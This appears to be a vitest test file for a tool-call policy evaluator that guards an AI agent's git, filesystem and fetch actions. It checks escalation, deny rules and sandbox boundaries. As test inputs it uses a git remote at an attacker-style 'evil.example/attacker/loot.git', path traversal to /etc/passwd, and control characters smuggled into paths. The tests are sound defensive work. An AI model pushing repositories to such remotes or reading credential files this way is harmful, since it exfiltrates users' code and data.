// POLICY-SEMANTICS.md, "Stricter than IronCurtain (deliberate)".
import { mkdirSync, rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { createEvaluator, type CanonicalizationContext, type ToolCall } from '../src/index.js';
import {
  canonicalizeThenEvaluate,
  git,
  initRepository,
  policyOf,
  rule,
  temporaryDirectory,
} from './helpers.js';

describe('Stricter: effective git remote before the checks', () => {
  let sandbox: string;
  let context: CanonicalizationContext;
  const push = (args: Record<string, unknown>): ToolCall => ({
    serverName: 'git',
    toolName: 'git_push',
    arguments: args,
  });

  beforeEach(() => {
    sandbox = temporaryDirectory();
    context = { sandboxDir: sandbox, homeDir: sandbox, isContainerSession: false };
    initRepository(sandbox);
    git(sandbox, 'remote', 'add', 'origin', 'https://evil.example/attacker/loot.git');
  });

  it('a push with no remote to an evil default remote is escalated by the domain gate, not allowed', () => {
    const evaluator = createEvaluator(
      policyOf({ rules: [rule('allow-pushes', { tool: ['git_push'] }, 'allow')] }),
      {
        sandboxDir: sandbox,
        serverDomains: { git: ['github.com'] },
      },
    );
    expect(canonicalizeThenEvaluate(evaluator, context, push({ path: sandbox }))).toMatchObject({
      decision: 'escalate',
      rule: 'structural-domain-escalate',
    });
  });

  it('an "allow pushes to github.com" rule does not allow a push whose default remote is elsewhere', () => {
    const allowGithub = rule(
      'allow-github-pushes',
      { domains: { roles: ['git-remote-url'], allowed: ['github.com'] } },
      'allow',
    );
    const evaluator = createEvaluator(policyOf({ rules: [allowGithub] }), { sandboxDir: sandbox });
    expect(canonicalizeThenEvaluate(evaluator, context, push({ path: sandbox }))).toMatchObject({
      decision: 'deny',
      rule: 'default-deny',
    });
    expect(canonicalizeThenEvaluate(evaluator, context, push({ path: sandbox, remote: 'origin' })).rule).toBe(
      'default-deny',
    );
    git(sandbox, 'remote', 'set-url', 'origin', 'git@github.com:me/app.git');
    expect(canonicalizeThenEvaluate(evaluator, context, push({ path: sandbox }))).toMatchObject({
      decision: 'allow',
    });
  });

  it("the branch's tracking remote is the one checked", () => {
    git(sandbox, 'remote', 'set-url', 'origin', 'https://github.com/me/app.git');
    git(sandbox, 'remote', 'add', 'mirror', 'https://evil.example/x/y.git');
    git(sandbox, 'config', 'branch.main.remote', 'mirror');
    const evaluator = createEvaluator(
      policyOf({ rules: [rule('pushes', { tool: ['git_push'] }, 'allow')] }),
      {
        sandboxDir: sandbox,
        serverDomains: { git: ['github.com'] },
      },
    );
    expect(canonicalizeThenEvaluate(evaluator, context, push({ path: sandbox })).rule).toBe(
      'structural-domain-escalate',
    );
  });

  it('a named remote that cannot be resolved (git_clone with url `origin`) is not allowed', () => {
    const evaluator = createEvaluator(policyOf({ rules: [rule('anything', {}, 'allow')] }), {
      sandboxDir: sandbox,
    });
    const clone = {
      serverName: 'git',
      toolName: 'git_clone',
      arguments: { url: 'origin', path: join(sandbox, 'copy') },
    };
    expect(canonicalizeThenEvaluate(evaluator, context, clone)).toMatchObject({
      decision: 'deny',
      rule: 'invalid-arguments',
    });
    // Evaluation alone refuses an unresolved name too.
    expect(evaluator.evaluate(push({ path: sandbox, remote: 'origin' }))).toMatchObject({
      decision: 'deny',
      rule: 'invalid-arguments',
    });
  });
});

describe('Stricter: NUL and control characters in a path, URL or identifier value ⇒ deny, invalid-arguments', () => {
  const evaluator = createEvaluator(policyOf({ rules: [rule('anything', {}, 'allow')] }), {
    sandboxDir: '/sandbox',
  });
  const decide = (serverName: string, toolName: string, args: Record<string, unknown>) =>
    evaluator.evaluate({ serverName, toolName, arguments: args });

  it('paths (also inside arrays)', () => {
    expect(decide('filesystem', 'read_file', { path: '/sandbox/a\u0000.txt' })).toMatchObject({
      decision: 'deny',
      rule: 'invalid-arguments',
    });
    expect(decide('filesystem', 'read_multiple_files', { paths: ['/sandbox/a', '/sandbox/b\n'] }).rule).toBe(
      'invalid-arguments',
    );
  });

  it('URLs and identifiers', () => {
    expect(decide('fetch', 'fetch', { url: 'https://example.com/\u0007' }).rule).toBe('invalid-arguments');
    expect(decide('github', 'get_repo', { owner: 'me\u007f', repo: 'x' }).rule).toBe('invalid-arguments');
  });

  it('not in opaque values such as commit messages or email bodies', () => {
    expect(decide('email', 'send_email', { to: 'a@b.c', body: 'line one\nline two' })).toMatchObject({
      decision: 'allow',
    });
  });

  it('non-string path values are invalid too, rather than skipped', () => {
    expect(decide('filesystem', 'read_file', { path: { toString: '/etc/passwd' } }).rule).toBe(
      'invalid-arguments',
    );
    expect(decide('filesystem', 'read_multiple_files', { paths: ['/sandbox/a', 5] }).rule).toBe(
      'invalid-arguments',
    );
  });
});

describe('Stricter: /workspace is the sandbox only for container sessions', () => {
  const read = (isContainerSession: boolean, path: string) =>
    createEvaluator(policyOf({ rules: [] }), {
      sandboxDir: '/srv/sessions/s1/sandbox',
      isContainerSession,
    }).evaluate({
      serverName: 'filesystem',
      toolName: 'read_file',
      arguments: { path },
    });

  it('in a container session /workspace/… is inside the sandbox', () => {
    expect(read(true, '/workspace/src/a.ts')).toMatchObject({
      decision: 'allow',
      rule: 'structural-sandbox-allow',
    });
    expect(read(true, 'src/a.ts').rule).toBe('structural-sandbox-allow');
    expect(read(true, '/workspace/../etc/passwd').rule).toBe('default-deny');
  });

  it('for a session on the host /workspace/… is just a host path', () => {
    expect(read(false, '/workspace/src/a.ts')).toMatchObject({ decision: 'deny', rule: 'default-deny' });
  });
});

describe('Stricter: protected paths are resolved once when the policy loads', () => {
  it('createEvaluator resolves protected paths through symlinks once; evaluation never touches the filesystem', () => {
    const root = temporaryDirectory();
    mkdirSync(join(root, 'real-home'));
    symlinkSync(join(root, 'real-home'), join(root, 'home-link'));
    const evaluator = createEvaluator(policyOf({ rules: [rule('anything', {}, 'allow')] }), {
      protectedPaths: [join(root, 'home-link')],
    });
    expect(evaluator.context.protectedPaths).toEqual([join(root, 'real-home')]);
    expect(Object.isFrozen(evaluator.context.protectedPaths)).toBe(true);
    const read = (path: string) =>
      evaluator.evaluate({ serverName: 'filesystem', toolName: 'read_file', arguments: { path } });
    expect(read(join(root, 'real-home', 'config.json')).rule).toBe('structural-protected-path');
    // The filesystem changes after load: the decision does not (no re-resolution per call).
    rmSync(join(root, 'home-link'));
    rmSync(join(root, 'real-home'), { recursive: true });
    expect(read(join(root, 'real-home', 'config.json')).rule).toBe('structural-protected-path');
  });

  it('a new sandbox means a new evaluator: the carve-out follows it', () => {
    const policy = policyOf({ rules: [] });
    const options = { protectedPaths: ['/home/u/.ironcurtain'] };
    const read = (sandboxDir: string, path: string) =>
      createEvaluator(policy, { ...options, sandboxDir }).evaluate({
        serverName: 'filesystem',
        toolName: 'read_file',
        arguments: { path },
      }).rule;
    expect(read('/home/u/.ironcurtain/sessions/a/sandbox', '/home/u/.ironcurtain/sessions/a/sandbox/x')).toBe(
      'structural-sandbox-allow',
    );
    expect(read('/home/u/.ironcurtain/sessions/b/sandbox', '/home/u/.ironcurtain/sessions/a/sandbox/x')).toBe(
      'structural-protected-path',
    );
  });
});
